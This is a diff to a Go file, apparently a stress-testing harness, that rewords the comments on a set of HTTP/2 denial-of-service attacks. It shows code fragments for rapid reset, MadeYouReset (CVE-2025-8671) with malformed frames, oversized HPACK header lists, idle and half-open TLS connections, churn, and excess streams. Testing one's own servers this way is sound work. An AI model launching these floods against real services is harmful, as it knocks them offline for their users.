@@ -11,7 +11,7 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// attacks by name. a.size is the number of connections, if nothing else is said.
+// attacks by name. Unless noted otherwise, a.size is the number of connections.
 var attacks = map[string]func(a *assault){
 	"rapid reset":             rapidReset,
 	"made-you-reset":          madeYouReset,
@@ -45,15 +45,15 @@ func rapidReset(a *assault) {
 	})
 }
 
-// madeYouReset has the server do the resetting (CVE-2025-8671).
+// madeYouReset makes the server reset streams (CVE-2025-8671).
 func madeYouReset(a *assault) {
 	faults := []func(c *h2, id uint32){
-		func(c *h2, id uint32) { c.raw(http2.FrameWindowUpdate, 0, id, make([]byte, 4)) }, // of nothing
-		func(c *h2, id uint32) { // more than there can be
+		func(c *h2, id uint32) { c.raw(http2.FrameWindowUpdate, 0, id, make([]byte, 4)) }, // by zero
+		func(c *h2, id uint32) { // above the maximum
 			c.raw(http2.FrameWindowUpdate, 0, id, binary.BigEndian.AppendUint32(nil, 1<<31-1))
 			c.raw(http2.FrameWindowUpdate, 0, id, binary.BigEndian.AppendUint32(nil, 1<<31-1))
 		},
-		func(c *h2, id uint32) { // DATA after its end
+		func(c *h2, id uint32) { // DATA after the end of the stream
 			_ = c.fr.WriteData(id, true, nil)
 			_ = c.fr.WriteData(id, false, []byte("more"))
 		},
@@ -61,7 +61,7 @@ func madeYouReset(a *assault) {
 		func(c *h2, id uint32) { _ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndHeaders: true}) },
 	}
 	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
-		at := int(c.next/2) / 50 % (2 * len(faults)) // mostly those that keep the connection
+		at := int(c.next/2) / 50 % (2 * len(faults)) // mostly the faults that keep the connection open
 		for range 50 {
 			faults[min(at, len(faults)-1)%3](c, c.open(sotwPath, false))
 		}
@@ -90,7 +90,7 @@ func settings(a *assault) {
 	})
 }
 
-// largeHeaders are lists of megabytes, by a reference to what was said once.
+// largeHeaders sends header lists of megabytes, by references to the dynamic table.
 func largeHeaders(a *assault) {
 	large := strings.Repeat("h", 3000)
 	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
@@ -103,8 +103,7 @@ func largeHeaders(a *assault) {
 	})
 }
 
-// silent are connections that say nothing, and that are there again when they
-// are closed.
+// silent opens connections that send nothing, and reopens them when they are closed.
 func silent(a *assault) {
 	a.each(a.size, func(int) error {
 		c, err := a.connect(a.XDS)
@@ -119,7 +118,7 @@ func silent(a *assault) {
 	})
 }
 
-// silentTLS begins a handshake and does not go on.
+// silentTLS begins a handshake and does not continue.
 func silentTLS(a *assault) {
 	a.each(a.size, func(int) error {
 		c, err := a.connect(a.TLS)
@@ -133,7 +132,7 @@ func silentTLS(a *assault) {
 	})
 }
 
-// churn are connections that come, ask, and go; every fourth over TLS.
+// churn opens connections, sends a request and closes them; every fourth over TLS.
 func churn(a *assault) {
 	a.each(a.size, func(i int) error {
 		if i%4 == 0 {
@@ -161,7 +160,7 @@ func churn(a *assault) {
 	})
 }
 
-// tooManyStreams opens more streams than it may on one connection, and goes on.
+// tooManyStreams opens more streams on one connection than it may, and continues.
 func tooManyStreams(a *assault) {
 	a.flood(a.XDS, a.size, discards, func(c *h2) {
 		for range 100 {
